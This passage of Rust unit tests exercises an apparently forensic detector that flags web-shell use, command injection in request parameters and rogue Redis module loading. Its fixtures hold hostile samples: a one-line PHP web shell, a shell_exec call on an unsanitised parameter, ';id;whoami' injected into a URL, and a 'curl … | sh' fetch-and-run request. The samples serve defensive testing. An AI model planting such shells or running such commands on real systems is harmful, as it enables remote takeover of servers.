203.0.113.9 - - [14/Oct/2025:21:41:09 +0000] \"GET /nothere.php?host=127.0.0.1%3Bid%3Bwhoami HTTP/1.1\" 404 12\n\
10.0.0.4 - - [14/Oct/2025:21:42:00 +0000] \"GET /api/users?fields=name;id;email HTTP/1.1\" 200 88\n";
        let model = fixture::model(
            vec![
                fixture::file(b"/var/log/nginx/access.log", Some(log)),
                fixture::file(
                    b"/var/www/status/status.php",
                    Some(b"<?php echo shell_exec('ping -c 1 ' . $_GET['host']);"),
                ),
            ],
            vec![],
        );
        let found = detect(&Context {
            model: &model,
            iocs: &iocs,
        });
        assert_eq!(found.len(), 1, "{found:#?}");
        let f = &found[0];
        assert_eq!((f.rule.as_str(), f.severity), ("MT-ENT-004", Severity::Low));
        assert_eq!(
            f.evidence.first().map(String::as_str),
            Some("2 request(s) to /status.php appended shell commands to a parameter's value")
        );
        assert!(f.subjects.iter().all(|s| s.role == Role::Context), "{f:#?}");
        assert!(f.subjects.iter().any(|s| matches!(&s.subject, minetrace_schemas::findings::Subject::File { path, .. } if path.as_bytes() == b"/var/www/status/status.php")));
    }

    #[test]
    fn redis_module_in_a_temp_place_is_high() {
        let iocs = Indicators::builtin();
        let log: &[u8] = b"811:S 02 Jun 2025 14:07:12.004 * REPLICAOF 203.0.113.19:21000 enabled (user request from 'id=41 addr=203.0.113.19:51872')\n811:M 02 Jun 2025 14:07:14.503 * Module 'system' loaded from /tmp/exp.so\n";
        let model = fixture::model(
            vec![
                fixture::file(b"/var/log/redis/redis-server.log", Some(log)),
                fixture::file(b"/tmp/exp.so", Some(b"\x7fELF")),
            ],
            vec![],
        );
        let found = detect(&Context {
            model: &model,
            iocs: &iocs,
        });
        assert_eq!(found.len(), 1);
        assert_eq!(
            (found[0].rule.as_str(), found[0].severity),
            ("MT-ENT-002", Severity::High)
        );
        let clean = fixture::model(
            vec![fixture::file(b"/var/log/redis/redis-server.log", Some(b"1:M 02 Jun 2025 06:00:01.116 * Ready to accept connections tcp\n1:M 02 Jun 2025 07:00:03.011 * DB saved on disk\n"))],
            vec![],
        );
        assert!(detect(&Context {
            model: &clean,
            iocs: &iocs
        })
        .is_empty());
    }

    /// A replica of its configured master with a module the admin built as Redis's account, against the
    /// same module path reached through a client's replication (HeadCrab writes to Redis's own directory).
    #[test]
    fn an_admin_module_and_a_configured_replica_are_ordinary() {
        let iocs = Indicators::builtin();
        let module = || {
            let (mut rec, content) =
                fixture::file(b"/var/lib/redis/modules/librejson.so", Some(b"\x7fELF"));
            rec.uid = 107;
            (rec, content)
        };
        // The server's log beside the module and the running server, judged.
        let judge = |log: &[u8]| {
            let model = fixture::model_with_processes(
                vec![
                    fixture::file(b"/var/log/redis/redis-server.log", Some(log)),
                    module(),
                ],
                vec![],
                vec![fixture::process(
                    981,
                    1,
                    107,
                    b"/usr/bin/redis-server",
                    &[b"/usr/bin/redis-server 127.0.0.1:6379"],
                )],
            );
            detect(&Context {
                model: &model,
                iocs: &iocs,
            })
        };
        let routine: &[u8] = b"1203:M 02 Dec 2025 04:10:11.204 * Module 'ReJSON' loaded from /var/lib/redis/modules/librejson.so\n\
1203:M 02 Dec 2025 04:10:11.210 * Ready to accept connections tcp\n\
1203:S 02 Dec 2025 04:10:11.211 * Connecting to MASTER 10.40.0.5:6379\n\
1203:S 02 Dec 2025 04:10:11.430 * MASTER <-> REPLICA sync: Finished with success\n";
        let found = judge(routine);
        assert!(found.is_empty(), "{found:?}");
        let rogue: &[u8] = b"981:S 02 Jun 2025 14:07:12.004 * REPLICAOF 203.0.113.19:21000 enabled (user request from 'id=41 addr=203.0.113.19:51872')\n\
981:M 02 Jun 2025 14:07:14.503 * Module 'system' loaded from /var/lib/redis/modules/librejson.so\n";
        let found = judge(rogue);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].severity, Severity::High);
        assert!(found[0]
            .evidence
            .iter()
            .any(|e| e.contains("Redis's account: the server wrote it")));
    }

    /// Review of train 3, item 1 ("one docroot"): with the web server's configuration stored, a request
    /// a virtual host logged names pages of that host's root only. The shop's log shows a command sent
    /// to `/cmd.php` (200); the shop has no such page, the blog (another host, another log) has a web
    /// shell of that name: the shop's request never ran it, so the finding is low with no subject. A
    /// request in the blog's own log reaches it (high); with no configuration, every web root's page of
    /// that name counts, as before.
    #[test]
    fn a_request_names_pages_of_its_own_hosts_root_only() {
        let iocs = Indicators::builtin();
        let hit: &[u8] = b"10.0.0.4 - - [10/Jun/2025:11:02:00 +0000] \"GET /index.php HTTP/1.1\" 200 5120\n\
198.51.100.7 - - [10/Jun/2025:11:03:00 +0000] \"GET /cmd.php?c=curl+-fsSL+http://198.51.100.7/k.sh%7Csh HTTP/1.1\" 200 0\n";
        let site = b"server { server_name shop.example; root /var/www/shop; access_log /var/log/nginx/shop.access.log; }
server { server_name blog.example; root /var/www/blog/; access_log /var/log/nginx/blog.access.log; }
";
        let model = |log: &[u8], configured: bool| {
            let mut files = vec![
                fixture::file(log, Some(hit)),
                fixture::file(
                    b"/var/www/shop/index.php",
                    Some(b"<?php\nrequire 'app.php';\n"),
                ),
                fixture::file(
                    b"/var/www/blog/cmd.php",
                    Some(b"<?php system($_GET['c']); ?>\n"),
                ),
            ];
            if configured {
                let (mut f, c) = fixture::file(b"/etc/nginx/sites-enabled/sites", Some(site));
                f.category = "web-config".into();
                files.push((f, c));
            }
            fixture::model(files, vec![])
        };
        let ent = |m: &crate::model::HostModel| {
            detect(&Context {
                model: m,
                iocs: &iocs,
            })
            .into_iter()
            .find(|f| f.rule == "MT-ENT-001")
        };
        let shop = ent(&model(b"/var/log/nginx/shop.access.log.1", true)).unwrap();
        assert_eq!(shop.severity, Severity::Low, "{shop:?}");
        assert!(shop.subjects.is_empty(), "{shop:?}");
        let blog = ent(&model(b"/var/log/nginx/blog.access.log", true)).unwrap();
        assert_eq!(blog.severity, Severity::High, "{blog:?}");
        assert!(
            blog.evidence
                .iter()
                .any(|e| e.contains("/var/www/blog/cmd.php")),
            "{blog:?}"
        );
        let unknown = ent(&model(b"/var/log/nginx/shop.access.log", false)).unwrap();
        assert_eq!(unknown.severity, Severity::High, "{unknown:?}");
    }
}
